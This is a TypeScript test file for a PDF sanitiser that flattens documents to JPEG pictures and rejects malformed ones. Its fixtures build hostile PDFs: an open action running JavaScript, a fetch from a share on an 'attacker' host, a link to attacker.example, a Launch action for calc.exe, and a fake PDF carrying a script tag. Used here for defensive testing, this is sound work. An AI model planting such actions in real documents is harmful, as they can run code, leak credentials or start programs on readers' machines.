import sharp from 'sharp'
import { expect, test } from 'vitest'
import { drawPdf } from '#platform/pdf/draw-pdf.ts'
import { cleanDocument } from './clean-document.ts'
import { flatDocument } from './flat-document.ts'

const redPage = '1 0 0 rg 0 0 300 200 re f'

/** A document with this many red pages, and optional further catalogue entries. */
function pdf({ pages = 1, catalogue = '', more = '', content = redPage, box = '0 0 300 200' } = {}): Buffer {
  const kids = Array.from({ length: pages }, (_, at) => `${10 + at} 0 R`)
  const objects = [
    `1 0 obj << /Type /Catalog /Pages 2 0 R ${catalogue} >> endobj`,
    `2 0 obj << /Type /Pages /Kids [${kids.join(' ')}] /Count ${pages} >> endobj`,
    `3 0 obj << /Length ${content.length} >> stream\n${content}\nendstream endobj`,
    ...kids.map(
      (_, at) => `${10 + at} 0 obj << /Type /Page /Parent 2 0 R /MediaBox [${box}] /Contents 3 0 R ${more} >> endobj`,
    ),
  ]
  return Buffer.from(`%PDF-1.7\n${objects.join('\n')}\ntrailer << /Root 1 0 R >>\n%%EOF\n`, 'latin1')
}

test('a page becomes a picture of what it shows', async () => {
  const picture = (await flatDocument(pdf())) ?? Buffer.alloc(0)
  expect(await sharp(picture).metadata()).toMatchObject({ format: 'jpeg', width: 1600, height: 1066 })
  const { channels } = await sharp(picture).stats()
  const [red, green, blue] = channels.map(({ mean }) => mean)
  expect(red).toBeGreaterThan(240)
  expect(Math.max(green ?? 255, blue ?? 255)).toBeLessThan(20)
})

test('the pages of a document stand below one another', async () => {
  const { width, height } = await sharp(await flatDocument(pdf({ pages: 3 }))).metadata()
  expect([width, height]).toEqual([1600, 3 * 1066])
})

const uri = '/A << /S /URI /URI (http://attacker.example/?seen) >>'
test.each([
  ['runs a script when it opens', pdf({ catalogue: '/OpenAction << /S /JavaScript /JS (app.alert(1)) >>' })],
  ['fetches from a share when it opens', pdf({ catalogue: '/OpenAction << /S /GoToR /F (\\\\\\\\attacker\\\\x) >>' })],
  ['links elsewhere', pdf({ more: `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 300 200] ${uri} >>]` })],
  ['starts a program', pdf({ more: '/AA << /O << /S /Launch /F (calc.exe) >> >>' })],
])('of a document that %s, a picture is all that is kept', async (_what, file) => {
  const clean = await cleanDocument(file)
  if (typeof clean === 'string') throw new Error(clean)
  expect(clean.mediaType).toBe('image/jpeg')
  expect(await sharp(clean.content).metadata()).toMatchObject({ format: 'jpeg', width: 1600 })
  expect(clean.content.toString('latin1')).not.toMatch(/PDF|attacker|calc|alert/)
})

test.each([
  ['has too many pages', pdf({ pages: 5 })],
  ['has no page', pdf({ pages: 0 })],
  ['breaks off', pdf().subarray(0, 60)],
  ['only begins as one', Buffer.from('%PDF-1.7\n<script>alert(1)</script>\n%%EOF')],
])('a document that %s is not taken', async (_what, file) => {
  expect(await cleanDocument(file)).toBe('fileNotAccepted')
})

test('a page as large as they can be is drawn no larger than any other', async () => {
  const { width, height } = await sharp(await flatDocument(pdf({ box: '0 0 14400 14400' }))).metadata()
  expect([width, height]).toEqual([1600, 1600])
})

test('a document that takes too long or too much memory is given up, and the next is drawn', async () => {
  const bounds = { pagesMax: 4, sideMax: 1_600, msMax: 10_000, memoryBytesMax: 256 * 1024 * 1024 }
  const endless = pdf({ content: `${'0 0 300 200 re f '.repeat(400_000)}` })
  const large = pdf({ box: '0 0 300 300' })
  expect(await drawPdf(endless, { ...bounds, msMax: 50 })).toBeUndefined()
  expect(await drawPdf(large, { ...bounds, sideMax: 6_000, memoryBytesMax: 32 * 1024 * 1024 })).toBeUndefined()
  expect(await drawPdf(pdf(), bounds)).toHaveLength(1)
})
